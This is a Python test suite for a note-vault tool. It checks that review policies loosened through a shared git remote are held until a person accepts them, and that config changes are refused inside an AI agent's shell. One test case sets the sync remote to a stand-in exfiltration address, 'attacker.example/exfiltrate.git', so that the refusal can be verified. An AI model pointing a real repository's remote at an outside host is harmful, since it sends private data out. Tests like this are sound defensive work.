"""A team's review policy arrives with every sync; loosening it takes a person on this machine.

The attacks are pushed to a shared bare remote with plain git (anyone who can push can change
``config.json``); the agent writes over MCP with the SDK's client; a person runs the command line.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from hypothesis import given
from hypothesis import strategies as st
from mcp import Client, types
from test_config_split import push_config, read_json
from test_sync_support import P, Team, make_team

from memosite.kinds import KINDS
from memosite.mcp_server.server import build_server
from memosite.policy import ReviewPolicy, enforced, loosened, tightened
from memosite.recordfile import read_record
from memosite.vault import Vault

MALLORY = "Mallory Ångström <mallory@example.org>"
AGENT_SHELLS = [("CLAUDECODE", "1", "Claude Code"), ("GEMINI_CLI", "1", "Gemini CLI")]


@pytest.fixture
def team(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Team]:
    yield from make_team(tmp_path, monkeypatch)


async def _agent_upsert(root: Path, arguments: dict[str, Any]) -> types.CallToolResult:
    vault = Vault.open(root)
    try:
        server = build_server(vault, P)
        client_info = types.Implementation(name="codex", version="2.0")
        async with Client(server, mode="legacy", client_info=client_info) as client:
            return await client.call_tool("upsert", arguments)
    finally:
        vault.close()


def agent_writes(root: Path, kind: str, slug: str) -> dict[str, Any]:
    """An agent writes a record over MCP; returns its frontmatter as written."""
    body = " ".join([slug.replace("-", " ")] * 3)  # no two alike: a trap is never a recurrence of another
    result = anyio.run(_agent_upsert, root, {"kind": kind, "slug": slug, "body": body})
    assert not result.is_error, result.content
    folder = {"trap": "traps", "decision": "decisions"}[kind]
    frontmatter: dict[str, Any] = read_record(root / "projects" / P / folder / f"{slug}.md").frontmatter
    return frontmatter


def reviewing_team(team: Team, run_cli: Any) -> tuple[Path, Path]:
    """Machines a and b; a person on a requires review of traps and decisions; both synced."""
    a, b = team.machine("a").root, team.machine("b").root
    done = run_cli("config", "set", "review.required", "trap,decision", "--vault", str(a))
    assert done.exit_code == 0, done.stderr
    assert run_cli("sync", "--vault", str(a)).exit_code == 0
    joined = run_cli("sync", "--vault", str(b))
    assert joined.exit_code == 0, joined.stderr
    assert "review policy: the team's config.json now requires review of trap, decision (applied)" in joined.stdout
    return a, b


def test_a_remote_config_json_with_review_required_empty_does_not_switch_review_off_here(
    team: Team, run_cli: Any
) -> None:
    _, b = reviewing_team(team, run_cli)
    commit = push_config(team, lambda c: {**c, "review": {"required": []}}, author=MALLORY)
    synced = run_cli("sync", "--vault", str(b))
    assert synced.exit_code == 0, synced.stderr
    line = next(line for line in synced.stdout.splitlines() if line.startswith("review policy:"))
    assert f"commit {commit} by {MALLORY}" in line and "switches review off" in line
    assert "`memosite config accept-policy`" in line
    report = run_cli("sync", "--vault", str(b), "--json").json()["config"]
    assert report["loosened"] == [
        {"key": "review.required", "change": "switches review off (review.required is empty)"}
    ]
    assert agent_writes(b, "trap", "guess")["review"] == "pending"
    assert agent_writes(b, "decision", "cache")["review"] == "pending"
    status = run_cli("status", "--vault", str(b), "--project", P)
    assert f"config     review policy: config.json (commit {commit} by {MALLORY}) switches review off" in status.stdout
    listed = run_cli("config", "list", "--vault", str(b), "--json").json()
    assert listed["reviewPolicy"]["enforced"]["required"] == ["trap", "decision"]
    assert listed["reviewPolicy"]["team"]["required"] == []
    got = run_cli("config", "get", "review.required", "--vault", str(b), "--json").json()
    assert (got["value"], got["source"], got["teamValue"]) == (["trap", "decision"], "accepted", [])


@pytest.mark.slow
def test_a_person_accepting_the_policy_applies_the_loosening(
    team: Team, run_cli: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, b = reviewing_team(team, run_cli)
    push_config(team, lambda c: {**c, "review": {"required": ["decision"]}}, author=MALLORY)
    run_cli("sync", "--vault", str(b))
    assert agent_writes(b, "trap", "before")["review"] == "pending"
    monkeypatch.setenv("GIT_AUTHOR_NAME", "Bea Person")
    monkeypatch.setenv("GIT_AUTHOR_EMAIL", "bea@example.org")
    accepted = run_cli("config", "accept-policy", "--vault", str(b))
    assert accepted.exit_code == 0, accepted.stderr
    assert "accepted the team's review policy, which stops requiring review of trap" in accepted.stdout
    assert "review" not in agent_writes(b, "trap", "after")
    assert agent_writes(b, "decision", "still")["review"] == "pending"
    assert read_json(b / "config.local.json")["acceptedPolicy"]["acceptedBy"] == "Bea Person <bea@example.org>"
    assert "review policy" not in run_cli("status", "--vault", str(b)).stdout
    again = run_cli("config", "accept-policy", "--vault", str(b), "--json").json()
    assert again["changes"] == [] and again["accepted"]["required"] == ["decision"]


@pytest.mark.parametrize(("variable", "value", "agent"), AGENT_SHELLS)
def test_accept_policy_is_refused_in_an_agents_shell(
    team: Team, run_cli: Any, monkeypatch: pytest.MonkeyPatch, variable: str, value: str, agent: str
) -> None:
    _, b = reviewing_team(team, run_cli)
    push_config(team, lambda c: {**c, "review": {"required": []}}, author=MALLORY)
    run_cli("sync", "--vault", str(b))
    before = (b / "config.local.json").read_bytes()
    monkeypatch.setenv(variable, value)
    refused = run_cli("config", "accept-policy", "--vault", str(b))
    assert refused.exit_code != 0 and refused.stdout == ""
    assert refused.stderr == (
        f"memosite: error: config accept-policy is refused in {agent}'s shell ({variable} is set):"
        " only a person does this, from their own terminal\n"
    )
    assert run_cli("config", "accept-policy", "--vault", str(b), "--json").json()["error"]["code"] == "PERSON_REQUIRED"
    assert (b / "config.local.json").read_bytes() == before
    monkeypatch.delenv(variable)
    assert agent_writes(b, "trap", "still-reviewed")["review"] == "pending"


@pytest.mark.parametrize(("variable", "value", "agent"), AGENT_SHELLS)
@pytest.mark.parametrize(
    "change",
    [
        ("set", "review.required", "[]"),
        ("set", "review.briefPending", "true"),
        ("unset", "review.required"),
        ("set", "ttl.scratchDays", "0"),
        ("set", "vaultGit.remote", "https://attacker.example/exfiltrate.git"),
    ],
)
def test_config_changes_in_an_agents_shell_are_refused(
    vault: Vault,
    run_cli: Any,
    monkeypatch: pytest.MonkeyPatch,
    variable: str,
    value: str,
    agent: str,
    change: tuple[str, ...],
) -> None:
    assert run_cli("config", "set", "review.required", "trap").exit_code == 0
    files = {name: (vault.root / name).read_bytes() for name in ("config.json", "config.local.json")}
    monkeypatch.setenv(variable, value)
    refused = run_cli("config", *change)
    assert refused.exit_code != 0 and refused.stderr.count("\n") == 1
    assert f"is refused in {agent}'s shell" in refused.stderr
    assert {name: (vault.root / name).read_bytes() for name in files} == files
    assert run_cli("config", "get", "review.required").stdout == "trap\n"  # reading is fine


def test_a_tightening_from_the_remote_applies_at_once_and_a_later_loosening_waits(team: Team, run_cli: Any) -> None:
    _, b = reviewing_team(team, run_cli)
    push_config(team, lambda c: {**c, "review": {"required": ["trap", "decision", "spec"]}}, author=MALLORY)
    synced = run_cli("sync", "--vault", str(b))
    assert "review policy: the team's config.json now requires review of spec (applied)" in synced.stdout
    push_config(team, lambda c: {**c, "review": {"required": ["trap", "decision"]}}, author=MALLORY)
    synced = run_cli("sync", "--vault", str(b))
    assert "stops requiring review of spec; not applied" in synced.stdout
    assert read_json(b / "config.local.json")["acceptedPolicy"]["review"]["required"] == ["trap", "decision", "spec"]
    listed = run_cli("config", "get", "review.required", "--vault", str(b)).stdout
    assert listed == "trap,decision,spec\n"


def test_a_persons_config_set_applies_directly_and_waits_on_other_machines(
    team: Team, run_cli: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    a, b = reviewing_team(team, run_cli)
    monkeypatch.setenv("GIT_AUTHOR_NAME", "Bea Person")
    monkeypatch.setenv("GIT_AUTHOR_EMAIL", "bea@example.org")
    done = run_cli("config", "set", "review.required", "decision", "--vault", str(b))
    assert done.exit_code == 0 and "committed: shared at the next sync" in done.stdout
    assert "review" not in agent_writes(b, "trap", "on-b")
    assert "config: set review.required to decision" in (team.base / "b" / ".git" / "logs" / "HEAD").read_text(
        encoding="utf-8"
    )
    assert run_cli("sync", "--vault", str(b)).exit_code == 0
    on_a = run_cli("sync", "--vault", str(a))
    assert "by Bea Person <bea@example.org>) stops requiring review of trap; not applied" in on_a.stdout
    assert agent_writes(a, "trap", "on-a")["review"] == "pending"


def test_the_brief_keeps_pending_records_out_until_a_person_accepts_showing_them(team: Team, run_cli: Any) -> None:
    _, b = reviewing_team(team, run_cli)
    assert run_cli("config", "set", "review.briefPending", "false", "--vault", str(b)).exit_code == 0
    run_cli("sync", "--vault", str(b))
    agent_writes(b, "trap", "unreviewed")
    push_config(team, lambda c: {**c, "review": {**c["review"], "briefPending": True}}, author=MALLORY)
    synced = run_cli("sync", "--vault", str(b))
    assert "shows records waiting for review in the brief; not applied" in synced.stdout
    brief = run_cli("bootstrap", "--vault", str(b), "--project", P, "--json").json()
    assert brief["sections"].get("pending", []) == [] and "unreviewed" not in brief["markdown"]


def test_a_hand_edit_of_config_json_that_loosens_review_waits_too(vault: Vault, run_cli: Any) -> None:
    assert run_cli("config", "set", "review.required", "trap,decision").exit_code == 0
    path = vault.root / "config.json"
    path.write_text(json.dumps({**read_json(path), "review": {"required": []}}), encoding="utf-8")
    status = run_cli("status").stdout
    assert "config     review policy: config.json (changed on this machine) switches review off" in status
    assert agent_writes(vault.root, "decision", "hand")["review"] == "pending"
    assert run_cli("config", "accept-policy").exit_code == 0
    assert "review" not in agent_writes(vault.root, "decision", "accepted")


# --- the rule itself, for every pair of policies -----------------------------------------------

policies = st.builds(ReviewPolicy, st.frozensets(st.sampled_from(KINDS)), st.booleans())


@given(accepted=policies, team=policies)
def test_the_enforced_policy_is_never_looser_than_the_accepted_or_the_teams(
    accepted: ReviewPolicy, team: ReviewPolicy
) -> None:
    applied = enforced(accepted, team)
    assert applied.required >= accepted.required | team.required
    assert applied.brief_pending <= (accepted.brief_pending and team.brief_pending)
    assert (loosened(accepted, team) == []) == (applied == team)
    assert (tightened(accepted, team) == []) == (applied == accepted)
    assert enforced(applied, team) == applied  # recording a tightening changes nothing in force
